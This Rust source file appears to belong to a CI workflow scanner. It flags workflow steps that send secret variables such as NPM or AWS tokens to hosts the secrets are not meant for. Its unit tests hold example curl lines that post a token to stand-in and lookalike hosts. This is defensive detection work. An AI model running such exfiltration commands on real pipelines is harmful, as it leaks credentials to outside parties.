//! Steps of workflows that are given secrets as variables, and what they send where.

use std::collections::BTreeMap;

use serde_json::Value;

use super::environment::{is_named_after, is_own_of};
use super::hooks::far_host;
use super::{Rule, Severity, Walk};

/// Most variables of one workflow.
const VARIABLES_MAX: usize = 500;
/// Ends of names of variables whose value is an address: sending to it is what it is for.
const ADDRESSES: &[&str] = &["WEBHOOK", "URL", "URI", "ENDPOINT", "HOST"];

const SENT: Rule<'static> = Rule {
    id: "bundle.step-sends-secret",
    category: "exfiltration",
    severity: Severity::High,
    reason: "A step of a workflow sends a secret that it is given as a variable to a host that the secret is not for.",
    fix: "Give secrets to the tools that they are for.",
};

/// The variables of a workflow that hold secrets, and the names of these.
pub(super) fn secrets_of(value: &Value, text: &str) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    if text.contains("secrets.") {
        collect(value, 0, &mut out);
    }
    out
}

fn collect(value: &Value, depth: usize, out: &mut BTreeMap<String, String>) {
    if depth > super::DEPTH_MAX {
        return;
    }
    match value {
        Value::Array(items) => items.iter().for_each(|item| collect(item, depth + 1, out)),
        Value::Object(fields) => {
            for (name, value) in fields.get("env").and_then(Value::as_object).into_iter().flatten() {
                let secret = value.as_str().and_then(|text| text.split_once("secrets."));
                if let Some((_, rest)) = secret.filter(|_| out.len() < VARIABLES_MAX) {
                    let end =
                        rest.find(|c: char| !c.is_ascii_alphanumeric() && c != '_').unwrap_or(rest.len());
                    out.insert(name.clone(), rest[..end].to_owned());
                }
            }
            fields.values().for_each(|value| collect(value, depth + 1, out));
        }
        _ => {}
    }
}

impl Walk<'_, '_, '_> {
    /// Looks at the script of a step.
    pub(super) fn step(&mut self, script: &str) {
        if self.secrets.is_empty() {
            return;
        }
        let joined = script.replace("\\\n", " ");
        for line in joined.lines() {
            let Some(host) = far_host(line) else { continue };
            let worst =
                self.secrets.iter().filter_map(|(variable, secret)| severity(line, &host, variable, secret));
            if let Some(severity) = worst.max() {
                let at = line.trim().split("  ").next().unwrap_or_default().to_owned();
                self.finding(&Rule { severity, ..SENT }, &at);
            }
        }
    }
}

/// How bad it is that a line, which sends something to a host, has a secret in it; `None` where it has not.
fn severity(line: &str, host: &str, variable: &str, secret: &str) -> Option<Severity> {
    let forms = [
        format!("${variable}"),
        format!("${{{variable}}}"),
        format!("env.{variable} "),
        format!("env.{variable}}}"),
    ];
    let is_named = forms.iter().any(|form| {
        line.match_indices(form.as_str()).any(|(at, _)| {
            let after = line[at + form.len()..].chars().next();
            form.ends_with(['}', ' ']) || !after.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_')
        })
    });
    let secret = secret.to_ascii_uppercase();
    if !is_named || ADDRESSES.iter().any(|end| secret.ends_with(end)) {
        return None;
    }
    if let Some(is_own) = is_own_of(&secret, host) {
        return (!is_own).then_some(SENT.severity);
    }
    // As a header or a name and a password it is how a service knows who asks.
    let lower = line.to_ascii_lowercase();
    let is_login = ["authorization", "bearer", " -u ", "--user ", "x-api-key", "private-token"];
    let is_own = is_named_after(&secret, host) || is_login.iter().any(|login| lower.contains(login));
    (!is_own).then_some(Severity::Medium)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn secrets_that_go_elsewhere_are_told() {
        for (line, host, secret, wanted) in [
            (
                "curl -d \"$T\" https://c.somewhere.dev/x",
                "c.somewhere.dev",
                "NPM_TOKEN",
                Some(Severity::High),
            ),
            (
                "curl -d \"${T}\" https://c.somewhere.dev/x",
                "c.somewhere.dev",
                "AWS_SECRET_ACCESS_KEY",
                Some(Severity::High),
            ),
            (
                "curl -d \"$T\" https://npmjs.org.somewhere.dev",
                "npmjs.org.somewhere.dev",
                "NPM_TOKEN",
                Some(Severity::High),
            ),
            ("curl -d \"$T\" https://registry.npmjs.org/x", "registry.npmjs.org", "NPM_TOKEN", None),
            (
                "curl -H \"Authorization: Bearer $T\" https://api.github.com/x",
                "api.github.com",
                "GITHUB_TOKEN",
                None,
            ),
            ("curl -d \"k=$T\" https://codecov.io/u", "codecov.io", "CODECOV_TOKEN", None),
            (
                "curl -d \"k=$T\" https://c.somewhere.dev/u",
                "c.somewhere.dev",
                "DEPLOY_KEY",
                Some(Severity::Medium),
            ),
            ("curl -d '{}' \"$T\" https://hooks.slack.com/x", "hooks.slack.com", "SLACK_WEBHOOK", None),
            ("curl -d \"$TAG\" https://c.somewhere.dev/x", "c.somewhere.dev", "NPM_TOKEN", None),
        ] {
            assert_eq!(severity(line, host, "T", secret), wanted, "{line}");
        }
    }
}
